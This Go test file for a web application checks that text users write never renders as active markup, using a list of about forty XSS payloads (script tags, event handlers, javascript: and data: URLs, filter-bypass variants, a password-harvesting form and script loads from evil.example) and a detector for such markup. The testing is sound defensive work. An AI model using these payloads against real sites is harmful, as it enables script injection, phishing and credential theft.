package trust

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"cairn/internal/web/ui"
)

// hostile are texts that become markup, script or style where somebody forgets
// what they are. Each shows the word it carries.
var hostile = []string{
	`<script>alert(1)</script>%s`,
	`</textarea><script src=//evil.example></script>%s`,
	`</title><script>alert(1)</script>%s`,
	`<img src=x onerror=alert(1)>%s`,
	`"><svg onload=alert(1)>%s`,
	`' onmouseover='alert(1)' x='%s`,
	`" autofocus onfocus="alert(1)" x="%s`,
	`<a href="javascript:alert(1)">%s</a>`,
	`[%s](javascript:alert(1))`,
	`[%s](JaVaScRiPt&colon;alert(1))`,
	`![%s](data:text/html;base64,PHNjcmlwdD4=)`,
	`[%s](data:text/html,<script>alert(1)</script>)`,
	`<javascript:alert(1)> %s`,
	`<iframe srcdoc="<script>alert(1)</script>">%s</iframe>`,
	`<object data="javascript:alert(1)">%s</object>`,
	`<embed src="//evil.example"> %s`,
	`<form action="//evil.example"><input name=password> %s`,
	`<base href="//evil.example/"> %s`,
	`<meta http-equiv=refresh content="0;url=//evil.example"> %s`,
	`<link rel=stylesheet href="//evil.example/x.css"> %s`,
	`<style>*{display:none}</style>%s`,
	`<p style="position:fixed;inset:0">%s</p>`,
	`<math><mi xlink:href="javascript:alert(1)">%s</mi></math>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>%s`,
	`<details open ontoggle=alert(1)>%s`,
	`<!--><img src=x onerror=alert(1)>-->%s`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">%s`,
	`<<script>alert(1)//<</script>%s`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>%s`,
	`&lt;script&gt;alert(1)&lt;/script&gt;%s`,
	`&#60;img src=x onerror=alert(1)&#62;%s`,
	`{{constructor.constructor('alert(1)')()}}%s`,
	`${alert(1)}%s`,
	`<a href="https://evil.example" target=_blank onclick=alert(1)>%s</a>`,
	"`<img src=x onerror=alert(1)>`%s",
	`<video><source onerror=alert(1)>%s`,
	`<input type=image src=x onerror=alert(1)>%s`,
	`<table background="javascript:alert(1)"><td>%s`,
	`<a xlink:href="javascript:alert(1)"><text>%s</text></a>`,
	"%s\u202e<script>alert(1)</script>",
}

// harmful are elements that no page of ours has, except as said below.
var harmful = wordSet("iframe object embed base style math animate video audio applet frame frameset template noscript")

func wordSet(words string) map[string]bool {
	m := map[string]bool{}
	for _, w := range strings.Fields(words) {
		m[w] = true
	}
	return m
}

var (
	ownAddress = regexp.MustCompile(`^(/($|[^/\\])|#|\?|https?://|mailto:|$)`)
	ownPicture = regexp.MustCompile(`^(/[^/\\]|data:image/(png|svg\+xml|jpeg|webp)[;,])`)
)

// harm tells what on a page would act, and was not put there by us.
func harm(n *html.Node) (found []string) {
	for d := range n.Descendants() {
		if d.Type != html.ElementNode {
			continue
		}
		if harmful[d.Data] && !ours(d) {
			found = append(found, "<"+d.Data+">")
		}
		for _, a := range d.Attr {
			name := strings.ToLower(a.Key)
			bad := strings.HasPrefix(name, "on") || name == "style" || name == "srcdoc" || name == "http-equiv" && !ours(d)
			switch name {
			case "src", "background", "poster":
				bad = bad || !ownPicture.MatchString(a.Val)
			case "href", "action", "formaction", "xlink:href", "data":
				bad = bad || !ownAddress.MatchString(a.Val) && !(d.Data == "link" && a.Val == ui.TabIcon) || name != "href" && strings.Contains(a.Val, "evil.example")
			}
			if bad {
				found = append(found, fmt.Sprintf("<%s %s=%q>", d.Data, a.Key, a.Val))
			}
		}
		if d.Data == "script" && !ours(d) || d.Data == "link" && strings.Contains(attribute(d, "href"), "evil") {
			found = append(found, "<"+d.Data+">")
		}
	}
	return found
}

// ours are the script, and what is said where scripts do not run.
func ours(n *html.Node) bool {
	switch n.Data {
	case "script":
		return strings.HasPrefix(attribute(n, "src"), "/assets/cairn-") && n.FirstChild == nil
	case "noscript":
		return n.FirstChild == nil || !strings.Contains(n.FirstChild.Data, "alert")
	}
	return false
}

func attribute(n *html.Node, name string) string {
	for _, a := range n.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}

// TestWhatPeopleWriteNeverActs fills a world with hostile texts, one after another,
// and looks at every page of those who read most: nothing of them became markup.
func TestWhatPeopleWriteNeverActs(t *testing.T) {
	t.Parallel() // in a world of its own
	c := newHostileCage(t)
	s := serve(t, c.World)
	s.signIn(t)
	found := idsOf(t, s.World)
	shown := map[int]bool{}
	for _, name := range []string{"noor", "mats", "tove", "kim", "pia"} {
		s.crawl(t, name, found, func(path string, a answer) {
			for i := range hostile {
				shown[i] = shown[i] || strings.Contains(a.body, fmt.Sprintf("canary%d-", i))
			}
			if !strings.Contains(a.header, "text/html") {
				return
			}
			page, err := html.Parse(strings.NewReader(a.body))
			must(t, err)
			if bad := harm(page); len(bad) > 0 {
				t.Errorf("%s at %s: %v", name, path, slices.Compact(bad))
			}
		})
	}
	for i, text := range hostile {
		if !shown[i] {
			t.Errorf("nobody was shown %q", text)
		}
	}
}

// TestHarmIsSeen: the look at pages finds each text that would have acted.
func TestHarmIsSeen(t *testing.T) {
	for i, text := range hostile {
		acts := strings.ContainsAny(text, "<") && !strings.HasPrefix(text, "<javascript:") && !strings.HasPrefix(text, "`") && !strings.HasPrefix(text, "<scr<") || strings.HasPrefix(text, `' on`) || strings.HasPrefix(text, `" auto`)
		if strings.HasPrefix(text, "[") || strings.HasPrefix(text, "!") {
			continue // acts as Markdown only
		}
		for _, place := range []string{`<p>%s</p>`, `<textarea>%s</textarea>`, `<input value="%s">`, `<input value='%s'>`, `<title>%s</title>`} {
			page, err := html.Parse(strings.NewReader(fmt.Sprintf(place, fmt.Sprintf(text, "word"))))
			must(t, err)
			acts = acts && len(harm(page)) == 0
		}
		if acts {
			t.Errorf("%d: %q is not seen anywhere", i, text)
		}
	}
	page, err := html.Parse(strings.NewReader(`<link rel="icon" href="/a.svg"><script src="/assets/cairn-1.js"></script><a href="https://example.org">x</a><form action="/x"><img src="/x.png"></form>`))
	must(t, err)
	if bad := harm(page); len(bad) > 0 {
		t.Errorf("what is ours is harm: %v", bad)
	}
}
